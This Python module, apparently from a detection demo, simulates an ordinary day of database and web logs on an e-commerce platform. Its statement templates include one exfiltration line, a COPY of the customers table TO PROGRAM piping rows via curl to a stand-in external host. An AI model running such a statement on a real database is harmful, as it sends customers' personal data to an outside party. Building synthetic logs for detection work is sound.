"""An ordinary day at a platform, its unusual but innocent events included."""

# ruff: noqa: S608 - these statements are written to a log, never run

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field

from rua_demo.people import Merchant, Person, Staff
from rua_demo.profiles import APPS, Profile
from rua_demo.world import Ticket
from rua_demo.writers import LITERAL, PgLog, PgSession, Sql, WebLog

HOUR_MS, DAY_MS = 3_600_000, 86_400_000
CSV = "text/csv"
ODD_AGENTS = (
    "curl/8.14.1",
    "python-requests/2.32",
    "okhttp/4.12.0",
    'bad \\"quote\\" \\\\ back',
    "ShopApp/9.8 (iOS 19)",
)
ROWS_OF_A_MONTHLY_REPORT = 10  # times the usual


@dataclass(frozen=True, slots=True)
class Shapes:
    """The statements of one platform, escaped once."""

    lookups: tuple[Sql, ...]
    queries: tuple[Sql, ...]
    export: Sql
    export_orders: Sql
    export_to_program: Sql
    bulk_read: Sql
    batch: tuple[Sql, ...]
    copy_table: Sql
    lock: Sql
    begin: Sql
    declare: Sql
    fetch: Sql
    commit: Sql
    set_role: Sql
    reset_role: Sql
    maintain: Sql
    change: Sql


def shapes(profile: Profile) -> Shapes:
    """The statements that a platform's staff and services run."""
    people, orders, addresses = profile.customers, profile.orders, profile.addresses
    multi_line = f"SELECT c.id, c.name, o.total\nFROM {people} c\nJOIN {orders} o ON o.customer = c.id\n"
    multi_line += f"WHERE o.province = 'เชียงใหม่' -- จังหวัด, \"ภาคเหนือ\"\n  AND o.day > {LITERAL};"
    copy = (
        f"COPY (SELECT id, name, phone, email FROM {people} WHERE id % {LITERAL} = 0) TO STDOUT (FORMAT csv, HEADER);"
    )
    program = (
        f"COPY (SELECT * FROM {people} WHERE id > {LITERAL}) TO PROGRAM 'curl -sT - https://drop.example.net/in' CSV;"
    )
    return Shapes(
        lookups=(
            Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE phone = $1", people, LITERAL),
            Sql("READ", "SELECT", f"SELECT id, state, total FROM {orders} WHERE id = {LITERAL};", orders),
            Sql("READ", "SELECT", f"SELECT * FROM {addresses} WHERE customer = {LITERAL};", addresses),
        ),
        queries=(
            Sql("READ", "SELECT", multi_line, people),
            Sql("READ", "SELECT", f"SELECT province, count(*) FROM {orders} WHERE day > {LITERAL} GROUP BY 1;", orders),
            Sql("READ", "SELECT", f"SELECT id, email, created FROM {people} WHERE created > {LITERAL};", people),
        ),
        export=Sql("READ", "SELECT", copy, people),
        export_orders=Sql(
            "READ", "SELECT", f"COPY (SELECT * FROM {orders} WHERE day > {LITERAL}) TO STDOUT CSV;", orders
        ),
        export_to_program=Sql("READ", "SELECT", program, people),
        bulk_read=Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE id > {LITERAL} ORDER BY id;", people),
        batch=(
            Sql("READ", "SELECT", f"SELECT * FROM {orders} WHERE updated > $1", orders, LITERAL),
            Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE updated > $1", people, LITERAL),
        ),
        copy_table=Sql("READ", "COPY", f"COPY public.{people} TO stdout;"),
        lock=Sql("MISC", "LOCK TABLE", f"LOCK TABLE public.{people} IN ACCESS SHARE MODE"),
        begin=Sql("MISC", "BEGIN", "BEGIN"),
        declare=Sql("READ", "DECLARE CURSOR", f'DECLARE "srv" CURSOR FOR SELECT * FROM {orders}'),
        fetch=Sql("MISC", "FETCH", 'FETCH FORWARD 500 FROM "srv"'),
        commit=Sql("MISC", "COMMIT", "COMMIT"),
        set_role=Sql("MISC", "SET", "SET ROLE app_owner;"),
        reset_role=Sql("MISC", "RESET", "RESET ROLE;"),
        maintain=Sql("DDL", "CREATE INDEX", f"CREATE INDEX CONCURRENTLY i_{LITERAL} ON {orders} (day);"),
        change=Sql("WRITE", "UPDATE", f"UPDATE {orders} SET state = 'sent' WHERE id = {LITERAL};", orders),
    )


def grant(role: str, grantee: str) -> Sql:
    """`GRANT role TO grantee;`."""
    return Sql("ROLE", "GRANT ROLE", f'GRANT {role} TO "{grantee}";')


@dataclass(slots=True)
class Platform:
    """A platform and its two logs, while it is simulated."""

    profile: Profile
    staff: Staff
    rng: random.Random
    scale: float
    db: PgLog = field(init=False)
    web: WebLog = field(init=False)
    sql: Shapes = field(init=False)
    tickets: list[Ticket] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.db, self.web = PgLog(self.profile.database, self.rng), WebLog(self.rng)
        self.sql = shapes(self.profile)

    def times(self, count: float) -> int:
        """A whole number around `count`, in proportion to the scale; seldom 0."""
        mean = count * self.scale * self.profile.pace
        return max(int(mean + self.rng.random()), 1 if count >= 1 else 0)

    def literal(self) -> str:
        """A literal of a statement: must not reach any event."""
        return str(self.rng.randrange(20_000, 900_000))

    def ticket(self, kind: str, who: str, from_ms: int, hours: float) -> str:
        """Opens a ticket."""
        name = f"{'INC' if kind == 'on-call' else 'CHG'}-{self.rng.randrange(1_000, 9_999)}"
        seconds = from_ms // 1_000
        self.tickets.append(
            Ticket(
                ticket=name,
                platform=self.profile.name,
                kind=kind,
                valid_from=seconds,
                valid_to=seconds + round(hours * 3_600),
                who=who,
            )
        )
        return name


@dataclass(frozen=True, slots=True)
class Day:
    """One local day of the world."""

    number: int
    midnight_ms: int
    weekday: int
    attack_day: bool
    eve: bool

    @property
    def weekend(self) -> bool:
        """Saturday or Sunday."""
        return self.weekday >= 5


def ordinary(at: Platform, day: Day) -> None:
    """Everything innocent that happens on one day."""
    _server(at, day)
    for person in at.staff.people:
        if day.number >= person.joined and (not day.weekend or person.weekend):
            _work(at, day, person)
    _services(at, day)
    _web(at, day)
    if day.number == at.staff.joiner.joined:
        _welcome(at, day)
    if day.attack_day:
        _monthly_report(at, day)
        _on_call_night(at, day)
    for person in at.staff.people:
        person.close_day()


def _server(at: Platform, day: Day) -> None:
    for k in range(at.times(8)):
        at_ms = day.midnight_ms + int((k + at.rng.random()) * DAY_MS / (at.times(8) + 1)) % DAY_MS
        at.db.server(at_ms, "checkpoint starting: time")
        at.db.server(at_ms + 9_000, f"checkpoint complete: wrote {at.rng.randrange(9, 900)} buffers (0.4%)")


def _work(at: Platform, day: Day, person: Person) -> None:
    """A working day in a few sittings, each from the office or, now and then, through the VPN."""
    rng = at.rng
    person.days_at_work += 1
    address = person.vpn if rng.random() < 0.2 or (day.number - person.joined) in (1, 6) else person.office
    mood = min(max(rng.lognormvariate(0, 0.25), 0.5), 1.6)
    sittings = 3
    length_ms = (person.last_hour - person.first_hour) * HOUR_MS // sittings
    for k in range(sittings):
        start = day.midnight_ms + person.first_hour * HOUR_MS + k * length_ms + int(rng.random() * length_ms * 0.5)
        queries = max(round(person.queries * mood * at.scale / sittings), 1)
        _sitting(at, person, start, address, queries=queries, span_ms=length_ms // 2)
    if rng.random() < person.exports:
        start = day.midnight_ms + int(rng.uniform(person.first_hour + 0.2, person.last_hour - 0.5) * HOUR_MS)
        _export(at, person, start, address, int(person.rows * rng.uniform(2, 5)))


def _sitting(at: Platform, person: Person, start: int, address: str, *, queries: int, span_ms: int) -> None:
    session = at.db.session(person.login, person.tool, address, start)
    now, usual = start, at.sql.lookups if person.role == "support" else at.sql.queries
    for _ in range(queries):
        now += 2_000 + int(at.rng.random() * span_ms / queries)
        rows = max(int(person.rows * at.rng.uniform(0.4, 1.6)), 1)
        sql = at.rng.choice(usual)
        session.run(now, sql, rows, at.literal(), watched=person.role == "analyst" and at.rng.random() < 0.3)
        person.rows_today += rows
    _extras(at, person, session, now)
    session.close(now + 60_000)


def _extras(at: Platform, person: Person, session: PgSession, now: int) -> None:
    rng = at.rng
    if rng.random() < 0.2:
        session.note(now + 30, "SELECT", f"duration: {rng.uniform(0.2, 900):.3f} ms")
    if rng.random() < 0.05:
        session.fails(
            now + 900, "42703", 'column "emial" does not exist', "SELECT emial FROM x WHERE emial='a@b.example'"
        )
    if person.role == "dba" and rng.random() < 0.3:
        session.run(now + 1_000, at.sql.maintain, 0, at.literal())


def _export(at: Platform, person: Person, start: int, address: str, rows: int) -> None:
    person.days_with_export += 1
    session = at.db.session(person.login, person.tool, address, start)
    session.run(start + 1_500, at.rng.choice((at.sql.export, at.sql.export_orders)), rows, at.literal())
    person.rows_today += rows
    session.close(start + 9_000)


def _services(at: Platform, day: Day) -> None:
    rng, night = at.rng, day.midnight_ms
    home = f"{at.profile.network}.1."
    etl = at.db.session("svc_etl", "airflow", home + "20", night + HOUR_MS + rng.randrange(60_000))
    for k in range(at.times(30)):
        etl.run(
            etl.start_ms + 5_000 + k * 90_000, rng.choice(at.sql.batch), int(rng.uniform(8_000, 20_000)), at.literal()
        )
    etl.close(etl.start_ms + HOUR_MS)
    _backup(at, night + 2 * HOUR_MS + 1_800_000 + rng.randrange(60_000), home + "21")
    factor = ROWS_OF_A_MONTHLY_REPORT if day.attack_day else 1
    report = at.db.session("svc_report", "report-runner", home + "22", night + 5 * HOUR_MS + rng.randrange(60_000))
    for k in range(at.times(6)):
        rows = int(rng.uniform(900, 1_300) * factor)
        report.run(report.start_ms + 4_000 + k * 120_000, at.sql.export_orders, rows, at.literal())
    report.close(report.start_ms + HOUR_MS // 2)
    _cursor(at, night + 6 * HOUR_MS, home + "23")
    for k in range(at.times(18)):
        _application(at, night + int((k + rng.random()) * DAY_MS / (at.times(18) + 2)) % DAY_MS, home + "24")


def _backup(at: Platform, start: int, address: str) -> None:
    session = at.db.session("svc_backup", "pg_dump", address, start)
    session.run(start + 400, at.sql.lock, 0)
    session.run(start + 9_000, at.sql.copy_table, 0)
    session.close(start + 90_000)


def _cursor(at: Platform, start: int, address: str) -> None:
    session = at.db.session("svc_search", "indexer", address, start)
    session.run(start + 100, at.sql.begin, 0)
    session.run(start + 200, at.sql.declare, 0)
    for k in range(at.times(10)):
        session.run(start + 1_000 + k * 700, at.sql.fetch, 0)
    session.run(start + 60_000, at.sql.commit, 0)
    session.close(start + 61_000)


def _application(at: Platform, start: int, address: str) -> None:
    session = at.db.session("svc_app", "api-server", address, start)
    now = start
    for _ in range(12):
        now += at.rng.randrange(200, 40_000)
        sql = at.sql.change if at.rng.random() < 0.1 else at.rng.choice(at.sql.lookups)
        session.run(now, sql, 1 + at.rng.randrange(3), at.literal())
    session.close(now + 500)


def _web(at: Platform, day: Day) -> None:
    for person in [*at.staff.support, *at.staff.analysts]:
        if not day.weekend or person.weekend:
            _console(at, day, person)
    for merchant in at.staff.merchants:
        _seller(at, day, merchant)
    for app in APPS:
        _partner(at, day, app)
    _noise(at, day)


def _console(at: Platform, day: Day, person: Person) -> None:
    rng = at.rng
    start, span = day.midnight_ms + person.first_hour * HOUR_MS, (person.last_hour - person.first_hour) * HOUR_MS
    for _ in range(at.times(26 if person.role == "support" else 5)):
        order = rng.randrange(100_000, 999_999)
        uri = f"/admin/api/orders/{order}" if rng.random() < 0.7 else "/admin/api/customers/search"
        args = "" if uri[-1].isdigit() else f"q=user{order}%40example.com&page=1"
        size = rng.randrange(400, 9_000)
        at.web.request(start + int(rng.random() * span), person.office, uri, user=person.login, args=args, size=size)
    if person.role == "support" and rng.random() < 0.3:
        size = rng.randrange(4_000, 40_000)
        name, at_ms = "คืนเงิน.csv" if rng.random() < 0.5 else "refunds.csv", start + int(rng.random() * span)
        at.web.request(
            at_ms,
            person.office,
            "/admin/export/refunds.csv",
            user=person.login,
            size=size,
            content=CSV,
            attachment=name,
        )


def _seller(at: Platform, day: Day, merchant: Merchant) -> None:
    rng, busy = at.rng, {"large": 20, "medium": 9, "small": 4}[merchant.size]
    for _ in range(at.times(busy)):
        at_ms = day.midnight_ms + int(rng.triangular(7, 23, 14) * HOUR_MS)
        app = rng.choice(merchant.apps)
        args = f"page={rng.randrange(1, 9)}"
        size = rng.randrange(2_000, 30_000)
        at.web.request(at_ms, merchant.address, "/api/v2/orders", args=args, size=size, app=app, merchant=merchant.id)
    if rng.random() < 0.5:
        at_ms, size = day.midnight_ms + int(rng.uniform(8, 20) * HOUR_MS), rng.randrange(10_000, 60_000) * busy // 4
        at.web.request(
            at_ms,
            merchant.address,
            "/seller/export/orders.csv",
            args=f"token={rng.getrandbits(64):x}",
            merchant=merchant.id,
            size=size if rng.random() < 0.95 else size // 3,
            announced=size,
            content=CSV,
            attachment="orders.csv",
        )


def _partner(at: Platform, day: Day, app: str) -> None:
    rng, address = at.rng, f"100.100.{APPS.index(app) + 10}.7"
    for k in range(at.times(60)):
        at_ms = day.midnight_ms + int((k + rng.random()) * DAY_MS / 90) % DAY_MS
        merchant = rng.choice(at.staff.merchants)
        args = f"since={at_ms // 1000 - 900}"
        size, agent = rng.randrange(3_000, 50_000), ODD_AGENTS[APPS.index(app)]
        at.web.request(
            at_ms,
            address,
            "/api/v2/orders",
            args=args,
            size=size,
            agent=agent,
            seconds=rng.random(),
            app=app,
            merchant=merchant.id,
        )


def _noise(at: Platform, day: Day) -> None:
    rng = at.rng
    events: list[Callable[[int, str], None]] = [
        lambda t, a: at.web.request(t, a, "/healthz", size=2, content="text/plain"),
        lambda t, a: at.web.request(t, a, "/static/app.js", size=81_204, content="text/javascript"),
        lambda t, a: at.web.request(
            t, a, "/admin/export/refunds.csv", method="HEAD", size=0, announced=20_000, content=CSV
        ),
        lambda t, a: at.web.request(t, a, "/nope.csv", status=404, size=153, content="text/html"),
        lambda t, a: at.web.request(t, a, "/admin/login", method="POST", status=401, size=90),
    ]
    for _ in range(at.times(30)):
        address = f"100.126.{rng.randrange(4)}.{rng.randrange(2, 12)}"  # some visitors who come again
        rng.choice(events)(day.midnight_ms + rng.randrange(DAY_MS), address)
    if rng.random() < 0.3:
        at_ms = day.midnight_ms + rng.randrange(DAY_MS)
        at.web.request(
            at_ms, "100.64.7.7", '/\udcff\udcfe\\"x', status=404, size=153, content="text/html", agent="caf\udce9"
        )


def _welcome(at: Platform, day: Day) -> None:
    """The new joiner gets the rights of the job, by ticket."""
    dba, start = at.staff.dbas[0], day.midnight_ms + 9 * HOUR_MS + 120_000
    number = at.ticket("change", dba.login, start - HOUR_MS, 9)
    session = at.db.session(dba.login, f"{dba.tool} {number}", dba.office, start)
    session.run(start + 4_000, grant("analyst_role", at.staff.joiner.login), 0)
    session.close(start + 30_000)


def _monthly_report(at: Platform, day: Day) -> None:
    """The finance analyst's report: ten times an ordinary day's rows, through the same tool, by ticket."""
    person = at.staff.analysts[0]
    usual = max(person.most_rows_a_day * 0.7, 100)
    start = day.midnight_ms + int(at.rng.uniform(person.first_hour + 1, person.last_hour - 2) * HOUR_MS)
    number = at.ticket("change", person.login, start - 2 * HOUR_MS, 12)
    session = at.db.session(person.login, f"{person.tool} {number}", person.office, start)
    for k in range(8):
        rows = int(usual * ROWS_OF_A_MONTHLY_REPORT / 8)
        session.run(start + 10_000 + k * 300_000, at.sql.queries[k % 3], rows, at.literal())
        person.rows_today += rows
    session.close(start + HOUR_MS)


def _on_call_night(at: Platform, day: Day) -> None:
    """A DBA is woken: a ticket is open, and a few hundred rows are taken out to repair something."""
    person, start = at.staff.dbas[0], day.midnight_ms + int(at.rng.uniform(1, 3.5) * HOUR_MS)
    number = at.ticket("on-call", person.login, start - 900_000, 6)
    session = at.db.session(person.login, f"{person.tool} {number}", person.vpn, start)
    session.run(start + 5_000, at.sql.set_role, 0)
    for k in range(6):
        session.run(start + 60_000 + k * 45_000, at.sql.lookups[1], at.rng.randrange(1, 30), at.literal())
    session.run(start + 600_000, at.sql.export_orders, at.rng.randrange(200, 600), at.literal())
    session.run(start + 700_000, at.sql.change, 3, at.literal())
    session.run(start + 720_000, at.sql.reset_role, 0)
    session.close(start + 800_000)
